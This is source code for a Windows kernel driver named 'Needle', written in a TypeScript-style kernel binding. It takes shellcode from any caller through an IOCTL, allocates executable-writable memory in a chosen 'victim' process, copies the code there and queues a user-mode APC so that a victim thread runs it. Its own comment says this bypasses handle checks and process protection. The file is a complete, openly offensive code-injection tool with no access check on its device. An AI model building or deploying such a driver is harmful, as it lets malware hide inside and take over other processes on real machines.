/*
 * Needle: has a program run code that is not its own, by an APC.
 *
 * From kernel mode no handle is asked for and no protection of processes counts: the driver goes into
 * the victim's address space, takes memory there that may be run, and copies the code. Then it queues a
 * user APC to a thread of the victim. The next time that thread waits alertably, it runs the code, in
 * user mode, as the victim.
 */
import {
  CLIENT_ID,
  CTL_CODE,
  DbgPrint,
  ExAllocatePool2,
  ExFreePoolWithTag,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  KAPC,
  KAPC_STATE,
  KTHREAD,
  KeInitializeApc,
  KeInsertQueueApc,
  KeStackAttachProcess,
  KeUnstackDetachProcess,
  MEM_COMMIT,
  MEM_RESERVE,
  METHOD_BUFFERED,
  NT_SUCCESS,
  ObDereferenceObject,
  OriginalApcEnvironment,
  PAGE_EXECUTE_READWRITE,
  POOL_FLAG_NON_PAGED,
  POOL_FLAG_PAGED,
  PVOID,
  ProbeForRead,
  PsLookupProcessByProcessId,
  PsLookupThreadByThreadId,
  RTL_CONSTANT_STRING,
  RtlCopyMemory,
  SIZE_T,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_INVALID_PARAMETER,
  STATUS_NOT_FOUND,
  STATUS_SUCCESS,
  STATUS_UNSUCCESSFUL,
  SYSTEM_PROCESS_INFORMATION,
  SystemProcessInformation,
  ULONG,
  ULONGLONG,
  UserMode,
  ZwAllocateVirtualMemory,
  ZwQuerySystemInformation,
  addressof,
  array,
  cast,
  local,
  out,
  sizeof,
  struct,
} from 'wdm'
import type {
  DEVICE_OBJECT,
  DRIVER_OBJECT,
  HANDLE,
  IRP,
  NTSTATUS,
  UNICODE_STRING,
  EPROCESS,
  ETHREAD,
} from 'wdm'

const IOCTL_DELIVER = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Needle')
const LinkName = RTL_CONSTANT_STRING('\\??\\Needle')
const TAG = 'ldeN'
/** ZwCurrentProcess() of the headers. */
const CURRENT_PROCESS: HANDLE = -1
/** Room for the list of processes and their threads. */
const LIST_BYTES = 0x10000
/** Bytes of code that are taken at most. */
const CODE_MAX = 256

/** What the program asks for; it has the same. */
const ORDER = struct('ORDER', { Victim: ULONG, Length: ULONG, Code: ULONGLONG })
/** SYSTEM_THREAD_INFORMATION: one behind the other at the end of a process's entry. */
const THREAD_ENTRY = struct('THREAD_ENTRY', {
  Times: array(ULONGLONG, 5),
  ClientId: CLIENT_ID,
  State: array(ULONGLONG, 3),
})

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = NeedleCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = NeedleCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = NeedleDeviceControl
  DriverObject.DriverUnload = NeedleUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** The id of a process's first thread; 0 when there is no such process. */
function FirstThread(Process: HANDLE): HANDLE {
  const list = ExAllocatePool2(POOL_FLAG_PAGED, LIST_BYTES, TAG)
  if (list === null) return 0
  let thread: HANDLE = 0
  if (NT_SUCCESS(ZwQuerySystemInformation(SystemProcessInformation, list, LIST_BYTES, null))) {
    let entry = cast(SYSTEM_PROCESS_INFORMATION, list)
    for (;;) {
      if (entry.UniqueProcessId === Process && entry.NumberOfThreads > 0)
        thread = cast(THREAD_ENTRY, entry.add(sizeof(SYSTEM_PROCESS_INFORMATION))).ClientId
          .UniqueThread
      if (entry.NextEntryOffset === 0) break
      entry = cast(SYSTEM_PROCESS_INFORMATION, entry.add(entry.NextEntryOffset))
    }
  }
  ExFreePoolWithTag(list, TAG)
  return thread
}

/** Put code into a process; the address that it has there, null when there is no room. */
function Place(Process: EPROCESS, Code: PVOID, Length: ULONG): PVOID {
  const state = local(KAPC_STATE)
  const base = local(array(PVOID, 1))
  const bytes = local(array(SIZE_T, 1))
  bytes[0] = BigInt(Length)
  KeStackAttachProcess(Process, state)
  const status = ZwAllocateVirtualMemory(
    CURRENT_PROCESS,
    addressof(base[0]),
    0n,
    addressof(bytes[0]),
    MEM_COMMIT | MEM_RESERVE,
    PAGE_EXECUTE_READWRITE,
  )
  if (NT_SUCCESS(status)) RtlCopyMemory(base[0], Code, Length)
  KeUnstackDetachProcess(state)
  return NT_SUCCESS(status) ? base[0] : null
}

/** Have a thread call a routine of its program, when it next waits for that. */
function Queue(Thread: ETHREAD, Routine: PVOID): NTSTATUS {
  const apc = cast(KAPC, ExAllocatePool2(POOL_FLAG_NON_PAGED, sizeof(KAPC), TAG))
  if (apc === null) return STATUS_INSUFFICIENT_RESOURCES
  KeInitializeApc(
    apc,
    cast(KTHREAD, Thread),
    OriginalApcEnvironment,
    NeedleKernelRoutine,
    null,
    Routine,
    UserMode,
    null,
  )
  if (KeInsertQueueApc(apc, null, null, 0)) return STATUS_SUCCESS
  ExFreePoolWithTag(apc, TAG)
  return STATUS_UNSUCCESSFUL
}

/** Runs in the victim before the code does: the APC is not needed any more. */
function NeedleKernelRoutine(
  Apc: KAPC,
  NormalRoutine: PVOID,
  NormalContext: PVOID,
  SystemArgument1: PVOID,
  SystemArgument2: PVOID,
): void {
  ExFreePoolWithTag(Apc, TAG)
}

/** Take the code while the program that gave it is current, then go and place it. */
function Deliver(Victim: HANDLE, Address: ULONGLONG, Length: ULONG): NTSTATUS {
  if (Length === 0 || Length > CODE_MAX) return STATUS_INVALID_PARAMETER
  const code = ExAllocatePool2(POOL_FLAG_NON_PAGED, Length, TAG)
  if (code === null) return STATUS_INSUFFICIENT_RESOURCES
  let status: NTSTATUS = STATUS_SUCCESS
  try {
    const source = cast(PVOID, Address)
    ProbeForRead(source, Length, 1)
    RtlCopyMemory(code, source, Length)
  } catch {
    status = STATUS_INVALID_PARAMETER
  }
  if (NT_SUCCESS(status)) status = Inject(Victim, code, Length)
  ExFreePoolWithTag(code, TAG)
  return status
}

function Inject(Victim: HANDLE, Code: PVOID, Length: ULONG): NTSTATUS {
  const process = out<EPROCESS>()
  let status = PsLookupProcessByProcessId(Victim, process)
  if (!NT_SUCCESS(status)) return status
  const thread = out<ETHREAD>()
  status = PsLookupThreadByThreadId(FirstThread(Victim), thread)
  if (NT_SUCCESS(status)) {
    const there = Place(process.value, Code, Length)
    status = there === null ? STATUS_INSUFFICIENT_RESOURCES : Queue(thread.value, there)
    DbgPrint('Needle: %u bytes at %p of process %u, 0x%08X\n', Length, there, Victim, status)
    ObDereferenceObject(thread.value)
  } else status = STATUS_NOT_FOUND
  ObDereferenceObject(process.value)
  return status
}

function NeedleDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  if (request.IoControlCode !== IOCTL_DELIVER) return Complete(Irp, STATUS_INVALID_DEVICE_REQUEST)
  if (request.InputBufferLength < sizeof(ORDER)) return Complete(Irp, STATUS_INVALID_PARAMETER)
  const order = cast(ORDER, Irp.AssociatedIrp.SystemBuffer)
  return Complete(Irp, Deliver(order.Victim, order.Code, order.Length))
}

function NeedleCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS)
}

function Complete(Irp: IRP, Status: NTSTATUS): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function NeedleUnload(DriverObject: DRIVER_OBJECT): void {
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
